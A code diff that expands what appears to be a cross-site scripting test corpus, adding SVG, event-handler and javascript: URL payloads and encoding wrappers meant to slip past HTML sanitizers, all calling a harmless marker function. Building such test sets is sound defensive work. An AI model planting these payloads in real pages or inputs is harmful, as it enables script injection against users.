@@ -25,6 +25,23 @@ const SHAPES: readonly string[] = [
   "{{constructor.constructor('ran()')()}}",
   "$\u007bran()}",
   "<%= ran() %>",
+  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+  "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
+  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='ran()'/>#x\"/>",
+  "<marquee onstart=ran()>x</marquee>",
+  "<audio src=x onerror=ran()></audio>",
+  "<div onpointerover=ran() style=position:fixed;inset:0>x</div>",
+  "<select autofocus onfocus=ran()></select>",
+  "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=ran()>",
+  "<base href=javascript:ran()//>",
+  "<img srcset='x 1x' onerror=ran()>",
+  "<isindex action=javascript:ran() type=image>",
+  "<table background=javascript:ran()><td>x</td></table>",
+  "<p style='background:url(javascript:ran())'>x</p>",
+  "<p style='animation:x' onanimationstart=ran()>x</p>",
+  "javascript://%0aran()",
+  "<iframe sandbox=allow-scripts srcdoc='<img src=x onerror=parent.ran()>'></iframe>",
+  "<x onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x>",
 ];
 const WRAPS: readonly ((shape: string) => string)[] = [
   (s) => s,
@@ -42,7 +59,17 @@ const WRAPS: readonly ((shape: string) => string)[] = [
   (s) => s.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
   (s) => `\u202e${s}`,
   (s) => `%3C${encodeURIComponent(s)}`,
+  (s) => `*/${s}/*`,
+  (s) => `</style>${s}`,
+  (s) => `</script><!--${s}-->`,
+  (s) => `<![CDATA[${s}]]>`,
+  (s) => `[x](${s})`,
+  (s) => `\\u003c${s.slice(1)}`,
+  (s) => s.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
+  (s) => s.replaceAll("(", "&#40;").replaceAll(")", "&#41;"),
+  (s) => `\u202d\u2066${s}\u2069`,
+  (s) => `${s}\u0000<!--`,
 ];
 
-/** Several hundred of them. */
-export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) => WRAPS.map((wrap) => wrap(shape)));
+/** A thousand of them, each once. */
+export const PAYLOADS: readonly string[] = [...new Set(SHAPES.flatMap((shape) => WRAPS.map((wrap) => wrap(shape))))];
